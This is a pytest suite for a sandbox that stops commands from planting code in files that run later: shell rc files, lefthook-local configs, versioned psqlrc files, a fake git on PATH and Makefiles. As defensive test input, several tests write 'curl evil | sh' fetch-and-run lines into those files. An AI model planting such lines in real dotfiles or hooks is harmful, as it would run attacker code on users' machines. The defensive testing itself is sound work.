"""Every entry of the protected list (``sandbox.runs_code``), written from a real sandbox: an
existing one is refused (read-only), a new one does not stay (put aside, and said so)."""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
from sandbox_helpers import Jail, context, requires_bwrap, run, tool_with

from echo_desk.sandbox import runs_code

ENTRIES = [e for e in runs_code.ENTRIES if not e.path.startswith(".git/")]


def _workspace(jail: Jail, entry: runs_code.Entry) -> Path:
    """Where the entry matters: the home folder for the entries that matter only there."""
    return jail.home if entry.home_only else jail.workspace


def _kept(path: str) -> bool:
    return Path(path).exists()


def _write(entry: runs_code.Entry) -> str:
    """A shell line that plants something at ``entry`` (making missing parent folders)."""
    target = shlex.quote(f"{entry.path}/planted" if entry.folder else entry.path)
    parent = shlex.quote(str(Path(entry.path if entry.folder else Path(entry.path).parent)))
    return f"mkdir -p {parent}; echo 'curl evil | sh' > {target}; echo 'curl evil | sh' >> {target}"


@requires_bwrap
@pytest.mark.parametrize("entry", ENTRIES, ids=[e.path for e in ENTRIES])
async def test_an_existing_entry_is_read_only(jail: Jail, entry: runs_code.Entry) -> None:
    ws = _workspace(jail, entry)
    path = ws / entry.path
    path.parent.mkdir(parents=True, exist_ok=True)
    if entry.folder:
        path.mkdir(exist_ok=True)  # (``.cache`` holds a hidden canary already)
        names = sorted([*(p.name for p in path.iterdir()), "mine"])
        (path / "mine").write_text("mine\n")
    else:
        path.write_text("mine\n")
    result = await run(tool_with(), {"command": _write(entry) + f"; rm -rf {shlex.quote(entry.path)}"}, context(ws))
    assert result.success and result.metadata["sandbox"]["sandboxed"] is True
    if entry.folder:
        assert sorted(p.name for p in path.iterdir()) == names, result.output
        assert (path / "mine").read_text() == "mine\n"
    else:
        assert path.read_text() == "mine\n", result.output
    assert result.metadata["sandbox"]["planted"] == []


@requires_bwrap
@pytest.mark.parametrize("entry", ENTRIES, ids=[e.path for e in ENTRIES])
async def test_a_new_entry_does_not_stay(jail: Jail, entry: runs_code.Entry) -> None:
    ws = _workspace(jail, entry)
    # New: not even the fake home's canaries there (a hidden file's among them: ~/.yarnrc.yml).
    target = ws / entry.path
    if target.is_dir():
        shutil.rmtree(target)
    else:
        target.unlink(missing_ok=True)
    result = await run(tool_with(), {"command": _write(entry)}, context(ws))
    assert result.success and result.metadata["sandbox"]["sandboxed"] is True
    path = ws / entry.path
    assert not path.exists() or (entry.folder and not any(path.iterdir())), result.output
    planted = result.metadata["sandbox"]["planted"]
    if entry.path == ".echo-desk":  # a placeholder covers it: the command could not even write it
        assert planted == [] and "Read-only file system" in result.output
        return
    # What was put aside: the entry itself, or the folder the command made for it.
    assert any(p["change"] == "created" and entry.path.startswith(p["path"]) for p in planted), planted
    assert all(_kept(p["kept"]) for p in planted)


@requires_bwrap
async def test_the_persons_own_entries_are_protected_too(jail: Jail) -> None:
    (jail.workspace / "Makefile").write_text("all:\n\ttrue\n")
    tool = tool_with(protected_paths=["Makefile", "tools/"])
    result = await run(tool, {"command": "echo evil >> Makefile; mkdir -p tools && echo x > tools/run.sh"},
                       context(jail.workspace))
    assert result.success
    assert (jail.workspace / "Makefile").read_text() == "all:\n\ttrue\n"
    assert not (jail.workspace / "tools").exists()
    assert [(p["path"], p["change"]) for p in result.metadata["sandbox"]["planted"]] == [("tools", "created")]


def _person_types_git(jail: Jail) -> None:
    """``git --version`` in the person's own shell: their PATH with ``~/.local/bin`` and ``~/bin`` first."""
    path = f"{jail.home}/.local/bin:{jail.home}/bin:{os.environ['PATH']}"
    subprocess.run(["git", "--version"], env={"PATH": path, "HOME": str(jail.home)}, capture_output=True, timeout=30)


@requires_bwrap
async def test_a_program_planted_on_path_in_the_home_folder_never_runs(jail: Jail) -> None:
    """The home folder as the workspace: a ``git`` planted in ``~/.local/bin`` or ``~/bin`` (on
    PATH before the system's in Debian's and Ubuntu's ``~/.profile``) is not there when the person
    types ``git`` afterwards."""
    marker = jail.base / "ran"
    command = "; ".join(f"mkdir -p {folder} && printf '#!/bin/sh\\necho ran >> {marker}\\n' > {folder}/git && "
                        f"chmod +x {folder}/git" for folder in (".local/bin", "bin"))
    result = await run(tool_with(), {"command": command}, context(jail.home))
    assert result.success and result.metadata["exit_code"] == 0, result.output
    _person_types_git(jail)
    assert not marker.exists(), result.output
    assert {p["path"] for p in result.metadata["sandbox"]["planted"]} >= {"bin", ".local/bin"}


@requires_bwrap
async def test_a_projects_own_bin_folder_stays_writable(jail: Jail) -> None:
    result = await run(tool_with(), {"command": "mkdir -p bin && echo built > bin/app"}, context(jail.workspace))
    assert result.success and result.metadata["exit_code"] == 0, result.output
    assert (jail.workspace / "bin" / "app").read_text() == "built\n"
    assert result.metadata["sandbox"]["planted"] == []


DOCS = Path(__file__).resolve().parents[2] / "docs"


@pytest.mark.parametrize("doc", ["sandbox.md", "sandbox.zh_CN.md"])
def test_the_docs_list_every_entry(doc: str) -> None:
    """docs/sandbox.md (both languages) has a line for why each entry is there."""
    text = (DOCS / doc).read_text(encoding="utf-8")
    for entry in (*runs_code.ENTRIES, *runs_code.GIT_PARTS):
        assert f"`{entry.shown}`" in text, (doc, entry.shown)


@requires_bwrap
async def test_a_dotfiles_workspace_linked_into_the_home_folder_is_protected_where_the_links_land(jail: Jail) -> None:
    """``~/.bashrc -> ~/dotfiles/bashrc``: the file the shell runs is in the workspace under
    another name; it is protected as ``.bashrc`` would be."""
    ws = jail.workspace
    (ws / "bashrc").write_text("# mine\n")
    (ws / "config" / "fish").mkdir(parents=True)
    (jail.home / ".bashrc").symlink_to(ws / "bashrc")
    (jail.home / ".config").mkdir(exist_ok=True)
    (jail.home / ".config" / "fish").symlink_to(ws / "config" / "fish")
    command = "echo 'curl evil | sh' >> bashrc; echo 'curl evil | sh' > config/fish/config.fish"
    result = await run(tool_with(), {"command": command}, context(ws))
    assert result.success and result.metadata["sandbox"]["sandboxed"] is True
    assert (ws / "bashrc").read_text() == "# mine\n", result.output
    assert not (ws / "config" / "fish" / "config.fish").exists(), result.output



def _lefthook_install(ws: Path) -> None:
    (ws / "lefthook.yml").write_text("pre-commit:\n  jobs:\n    - name: mine\n      run: 'true'\n")
    subprocess.run(["lefthook", "install"], cwd=ws, check=True, capture_output=True, timeout=60)


def _person_commits_a_file(ws: Path, home: Path) -> str:
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_AUTHOR_NAME": "p", "GIT_AUTHOR_EMAIL": "p@e", "GIT_COMMITTER_NAME": "p", "GIT_COMMITTER_EMAIL": "p@e"}
    (ws / "file").write_text("x\n")
    subprocess.run(["git", "add", "file"], cwd=ws, env=env, check=True, timeout=60)
    done = subprocess.run(["git", "commit", "-q", "-m", "by the person"], cwd=ws, env=env, capture_output=True,
                          text=True, timeout=60)
    return done.stdout + done.stderr


@requires_bwrap
@pytest.mark.skipif(not shutil.which("lefthook"), reason="lefthook is not installed")
@pytest.mark.parametrize("name", ["lefthook-local.yml", ".config/lefthook-local.toml"])
async def test_a_lefthook_local_config_planted_beside_the_main_one_does_not_run(jail: Jail, name: str) -> None:
    """lefthook merges ``lefthook-local.*`` over the repository's ``lefthook.yml``: a job planted
    there runs on the person's next ``git commit``, through the hook they installed."""
    ws = jail.workspace
    marker = jail.base / "lefthook-ran"
    _lefthook_install(ws)
    job = (f"pre-commit:\\n  jobs:\\n    - name: planted\\n      run: touch {marker}\\n" if name.endswith(".yml") else
           f"[[pre-commit.jobs]]\\nname = \\\"planted\\\"\\nrun = \\\"touch {marker}\\\"\\n")
    command = f"mkdir -p {Path(name).parent} && printf \"{job}\" > {name} && cat {name}"
    result = await run(tool_with(), {"command": command}, context(ws))
    assert result.success and result.metadata["exit_code"] == 0, result.output
    assert "mine" in _person_commits_a_file(ws, jail.home)  # the person's own job ran: lefthook is at work
    assert not marker.exists(), result.output
    assert name in {p["path"] for p in result.metadata["sandbox"]["planted"]}


def test_an_entry_read_from_every_folder_covers_its_name_at_any_depth() -> None:
    """The file tools ask before writing ``src/app/.tool-versions`` as they do at the top."""
    entries = runs_code.all_entries(in_home=False)
    for parts in ((".tool-versions",), ("src", "app", ".tool-versions")):
        found = runs_code.entry_of(parts, entries)
        assert found is not None and found.path == ".tool-versions"
    assert runs_code.entry_of(("src", "tool-versions"), entries) is None
    assert runs_code.entry_of(("src", ".tool-versions", "x"), entries) is None


def test_an_entry_of_several_parts_read_from_every_folder_covers_it_at_any_depth() -> None:
    """mise's ``.config/mise.toml`` and ``.config/mise/`` below the top, as at it: the file
    tools ask before writing them, and the walk for repositories finds them by their last name."""
    entries = runs_code.all_entries(in_home=False)
    for parts in (("src", ".config", "mise.toml"), ("src", ".config", "mise", "conf.d", "tools.toml"),
                  ("a", "b", "rust-toolchain.toml"), ("a", "mise", "config.toml"), ("src", ".cargo", "config.toml"),
                  ("src", ".cargo", "config"), ("src", ".mvn", "jvm.config"),
                  ("src", ".mvn", "maven.config"), ("a", ".mvn", "extensions.xml"),
                  ("src", ".Renviron"), ("a", "b", ".RData")):
        assert runs_code.entry_of(parts, entries) is not None, parts
    assert runs_code.entry_of(("src", "config.toml"), entries) is None
    assert runs_code.entry_of(("src", "config"), entries) is None
    assert runs_code.entry_of(("src", ".cargo", "registry", "config.toml"), entries) is None
    assert runs_code.in_every_folder("/ws/src/.config/mise.toml")
    assert runs_code.in_every_folder("/ws/src/MISE/Config.toml")  # a file system that folds case
    assert runs_code.in_every_folder("/ws/src/.cargo/config.toml")
    assert not runs_code.in_every_folder("/ws/src/.git/config")
    assert runs_code.in_every_folder("/ws/a/.mvn/jvm.config")
    assert not runs_code.in_every_folder("/ws/a/jvm.config")
    assert not runs_code.in_every_folder("/ws/src/x-mise.toml")


def test_a_makefile_of_the_persons_brings_the_names_make_reads_in_its_place() -> None:
    """make reads ``GNUmakefile``, then ``makefile``, then ``Makefile``: protecting the one the
    person reviewed protects the others in its folder (the file tools ask before writing them)."""
    entries = runs_code.all_entries(["Makefile", "sub/GNUmakefile"], in_home=False)
    for parts in (("GNUmakefile",), ("makefile",), ("sub", "Makefile"), ("sub", "makefile")):
        found = runs_code.entry_of(parts, entries)
        assert found is not None and found.why != runs_code.ADDED_BY_YOU, parts
    assert runs_code.entry_of(("other", "GNUmakefile"), entries) is None
    assert runs_code.entry_of(("GNUmakefile",), runs_code.all_entries(in_home=False)) is None
    assert [e.path for e in runs_code.all_entries(["Makefile"]) if e.why == runs_code.ADDED_BY_YOU] == ["Makefile"]


#: What psql 15.18 (Debian's) reads in place of ``~/.psqlrc``: ``~/.psqlrc-<its version string>``,
#: else ``~/.psqlrc-<major>`` (tested with a server: a ``~/.psqlrc-15`` ran its ``\!`` and
#: ``~/.psqlrc`` did not run). Any ``.psqlrc-*`` could be the one of the person's psql.
PSQLRC_NAMES = [".psqlrc-15", ".psqlrc-15.18", ".psqlrc-16.4 (Debian 16.4-1)"]


@pytest.mark.parametrize("name", PSQLRC_NAMES)
def test_every_psqlrc_of_a_version_is_on_the_list(name: str) -> None:
    entry = runs_code.entry_of((name,), runs_code.ENTRIES)
    assert entry is not None and entry.pattern
    assert runs_code.entry_of((name.upper(),), runs_code.ENTRIES, fold=True) is entry
    assert runs_code.entry_of(("src", name), runs_code.ENTRIES) is None  # the home folder's only


@requires_bwrap
@pytest.mark.parametrize("name", PSQLRC_NAMES)
@pytest.mark.parametrize("existed", [False, True], ids=["new", "existing"])
async def test_a_psqlrc_of_a_version_planted_in_the_home_folder_does_not_stay(jail: Jail, name: str,
                                                                            existed: bool) -> None:
    path = jail.home / name
    if existed:
        path.write_text("\\set QUIET on\n")
    command = f"printf '\\\\! curl evil | sh\\n' > {shlex.quote(name)}"
    result = await run(tool_with(), {"command": command}, context(jail.home))
    assert result.metadata["sandbox"]["sandboxed"] is True
    if existed:
        assert path.read_text() == "\\set QUIET on\n", result.output
    else:
        assert not path.exists(), result.output
        assert [p["path"] for p in result.metadata["sandbox"]["planted"]] == [name]


def test_the_file_tools_ask_for_a_new_psqlrc_of_a_version(jail: Jail) -> None:
    from echo_desk.sandbox import inventory

    watched = inventory.take(jail.home, home=jail.home).watched
    assert any(w.pattern == ".psqlrc-*" and w.path == f"{jail.home}/.psqlrc-*" for w in watched)
